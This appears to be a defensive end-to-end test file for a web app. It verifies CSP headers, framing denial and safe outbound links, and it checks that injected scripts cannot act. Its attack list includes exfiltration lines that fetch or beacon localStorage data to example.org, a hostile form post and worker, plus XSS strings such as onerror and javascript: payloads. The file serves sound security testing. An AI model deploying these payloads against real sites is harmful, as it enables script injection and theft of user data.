import { createHash } from 'node:crypto'
import { once } from 'node:events'
import { readdirSync, readFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import packageJson from '../../package.json' with { type: 'json' }
import { metaPolicy, pageHeaders } from '../../scripts/build/headers.ts'
import { sitePages } from '../../src/routes.ts'
import { arriveAt, codeOf, content, mixedAnswers, openSite } from './site.ts'
import { lookTogether, openTable, readPosting, withTwoAttempts } from './states.ts'

const site = openSite()
const paths = sitePages(content).map(({ path }) => path)

test('every page has the policy twice: in its headers, and as its first meta tag but one', async () => {
  const kinds = await Promise.all(['/', '/quiz/'].map(async (path) => fetch(site.at(path))))
  const pages = await Promise.all(kinds.map((response) => response.text()))
  const styles = pages.flatMap(stylesIn).map(hashOf)
  const expected = pageHeaders(styles)
  for (const path of paths) {
    const response = await fetch(site.at(path))
    const html = await response.text()
    const headers = Object.fromEntries(
      Object.keys(expected).map((name) => [name, response.headers.get(name)]),
    )
    expect({ path, headers }).toEqual({ path, headers: expected })
    const [, policy] =
      /<meta charset="utf-8">\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(
        html,
      ) ?? []
    expect({ path, policy }).toEqual({ path, policy: metaPolicy(styles) })
    expect(stylesIn(html), path).toHaveLength(1)
    expect(styles, path).toEqual(expect.arrayContaining(stylesIn(html).map(hashOf)))
  }
})

function stylesIn(html: string): readonly string[] {
  return [...html.matchAll(/<style>(.*?)<\/style>/gs)].map(([, style = '']) => style)
}

function hashOf(style: string): string {
  return `sha256-${createHash('sha256').update(style).digest('base64')}`
}

/**
 * What somebody who got a script into a page would try next, as the body of a function that throws when it is stopped; on a device
 * that keeps the site where its service worker has to do with it.
 */
const attacks: readonly { readonly what: string; readonly code: string; readonly keeps?: true }[] =
  [
    { what: 'text that becomes markup', code: `document.body.innerHTML = '<img src=x>'` },
    { what: 'text that becomes code', code: `new Function('return 1')()` },
    {
      what: 'a script from elsewhere',
      code: `document.createElement('script').src = 'https://example.org/x.js'`,
    },
    {
      what: 'a policy of its own',
      code: `trustedTypes.createPolicy('mine', { createHTML: (text) => text })`,
    },
    {
      what: 'the site’s policy once more',
      keeps: true,
      code: `trustedTypes.createPolicy('service-worker', { createScriptURL: (text) => text })`,
    },
    {
      what: 'a style of its own',
      code: `
      const refused = new Promise((_, stop) => addEventListener('securitypolicyviolation', () => stop(new Error('refused'))))
      document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: red }' }))
      await refused`,
    },
    { what: 'another worker', keeps: true, code: `new Worker('/assets/evil.js')` },
    {
      what: 'sending answers away',
      keeps: true,
      code: `await fetch('https://example.org/?' + localStorage.length)`,
    },
    {
      what: 'a form to elsewhere',
      code: `
      const form = document.createElement('form')
      form.action = 'https://example.org/'
      document.body.append(form)
      const refused = new Promise((_, stop) => addEventListener('securitypolicyviolation', () => stop(new Error('refused'))))
      form.submit()
      await refused`,
    },
    {
      what: 'a picture that carries answers away',
      code: `
      const image = new Image()
      const refused = new Promise((_, stop) => { image.onerror = () => stop(new Error('refused')) })
      image.src = 'https://example.org/?answers'
      await refused`,
    },
  ]

describe('a script that got in does not get', () => {
  test.each(attacks)('$what', async ({ code, keeps = false }) => {
    const { page } = await site.visitor({ hostile: true, keeps })
    await page.goto(site.at('/quiz/'))
    if (keeps) await page.waitForFunction(() => navigator.serviceWorker.controller !== null)
    // After a pause it runs as a script of the page, and not with the rights of the one who tests.
    const outcome = await page.evaluate(`(async () => {
      await new Promise((go) => setTimeout(go))
      try { ${code}; return 'done' } catch (error) { return 'stopped: ' + error.message }
    })()`)
    expect(outcome).toMatch(/^stopped/)
  })
})

test('no other site can put a page into a frame', async () => {
  const other = createServer((_, answer) => {
    answer.setHeader('Content-Type', 'text/html').end(`<iframe src="${site.at('/results/')}">`)
  }).listen(0)
  await once(other, 'listening')
  const address = other.address()
  if (address === null || typeof address === 'string') throw new Error('There is no port')
  const { page } = await site.visitor({ hostile: true })
  await page.goto(`http://localhost:${address.port}/`)
  expect(page.frames()).toHaveLength(2)
  const shown = page.frameLocator('iframe').getByRole('heading', { name: 'Your result' })
  expect(await shown.count()).toBe(0)
  other.close()
})

test('built pages point to other hosts with plain links only, and tell them nothing', () => {
  const loads: string[] = []
  for (const name of readdirSync('dist', { recursive: true, encoding: 'utf8' })) {
    if (!name.endsWith('.html')) continue
    const html = readFileSync(join('dist', name), 'utf8')
    for (const [tag] of html.matchAll(
      /<[a-z]+ [^>]*(?:href|src|action)="(?:https?:)?\/\/[^>]*>/g,
    )) {
      const isPlain = tag.startsWith('<a ') && tag.includes('rel="noopener noreferrer"')
      if (!isPlain) loads.push(`${name}: ${tag}`)
    }
  }
  expect(loads).toEqual([])
})

test('the credits lead to the licences of what is bundled, and to the bill of materials', async () => {
  const { page } = await site.visitor()
  await page.goto(site.at('/credits/'))
  const behind = async (name: string) => {
    const link = await page.getByRole('link', { name }).getAttribute('href')
    return fetch(new URL(link ?? '', page.url()))
  }
  const licences = await (await behind('with their licences')).text()
  const bill = await (await behind('for machines')).json()
  expect(bill).toMatchObject({ bomFormat: 'CycloneDX', specVersion: '1.6' })
  for (const [name, version] of Object.entries(packageJson.dependencies)) {
    const purl = `pkg:npm/${name.replace('@', '%40')}@${version}`
    expect(bill.components).toContainEqual(expect.objectContaining({ purl }))
    expect(licences).toContain(`${name} ${version} (`)
  }
  for (const { licenses } of bill.components) {
    expect(['MIT', 'Unlicense', 'ISC', 'BSD-3-Clause']).toContain(licenses[0].license.id)
  }
})

test('a hostile fragment is shown as a link that cannot be read, and nothing of it becomes markup', async () => {
  const { page } = await site.visitor()
  for (const fragment of [
    '<img src=x onerror=alert(1)>',
    'javascript:alert(1)',
    '1.%3Cscript%3E.AAA',
    '__proto__',
    '1.'.repeat(50_000),
  ]) {
    for (const path of [
      '/results/',
      '/compare/',
      '/path/ai-red-team-engineer/',
      '/posting/',
      '/together/',
      '/quiz/',
    ]) {
      await page.goto('about:blank')
      await page.goto(`${site.at(path)}#${fragment}`)
      await arriveAt(page, /./)
      expect(await page.locator('main img, main script').count()).toBe(0)
    }
  }
})

/** Text that would be markup, or turn what comes after it around. */
const hostile = `</textarea><img src=x onerror="document.title='in'"><script>document.title='in'</script>\u202E`

test.each([
  {
    what: 'a posting, and its name',
    path: '/posting/',
    paste: async (page: Page) => {
      await readPosting(
        page,
        `${hostile} and strong Python\nRequirements\n- ${hostile} Python\n- AWS ${hostile}\n- You threat model agents`,
      )
      await page.getByRole('textbox', { name: /^Keep what it asks/ }).fill(hostile)
      await page.getByRole('button', { name: 'Keep it' }).click()
      await page.getByText(/^Read and kept on/).waitFor()
      await page.getByRole('link', { name: 'Read another posting' }).click()
      await page.getByRole('heading', { name: 'Postings you kept' }).waitFor()
    },
  },
  {
    what: 'a CV',
    path: '/answers/#words',
    paste: async (page: Page) => {
      await page
        .getByRole('textbox', { name: /^Your CV/ })
        .fill(`Experience\n- ${hostile} Wrote Python tools ${hostile}`)
      await page.getByRole('button', { name: 'Look for skills' }).click()
      await page.getByRole('button', { name: 'Confirm' }).first().waitFor()
    },
  },
  {
    what: 'the name of an attempt',
    path: '/answers/',
    paste: async (page: Page) => {
      await page
        .getByRole('button', { name: /^Rename/ })
        .first()
        .click()
      await page.getByRole('textbox', { name: 'Name' }).fill(hostile)
      await page.getByRole('button', { name: 'Save' }).click()
      await page.getByText('<script>').first().waitFor()
    },
  },
  {
    what: 'labels of a team',
    path: '/together/',
    paste: async (page: Page) => {
      const person = (i: number) => `${hostile.replaceAll('"', '')} ${i},#${codeOf(mixedAnswers)}`
      await lookTogether(page, [1, 2, 3].map(person).join('\n'))
      await openTable(page)
    },
  },
])('$what that holds markup is text, and nothing of it becomes markup', async ({ path, paste }) => {
  const { page } = await site.visitor({ stored: withTwoAttempts })
  await page.goto(site.at(path))
  await paste(page)
  expect(await page.locator('main :is(img, script)').count()).toBe(0)
  expect(await page.title()).not.toBe('in')
  await page.reload()
  await arriveAt(page, /./)
  expect(await page.locator('main :is(img, script)').count()).toBe(0)
  expect(await page.title()).not.toBe('in')
})
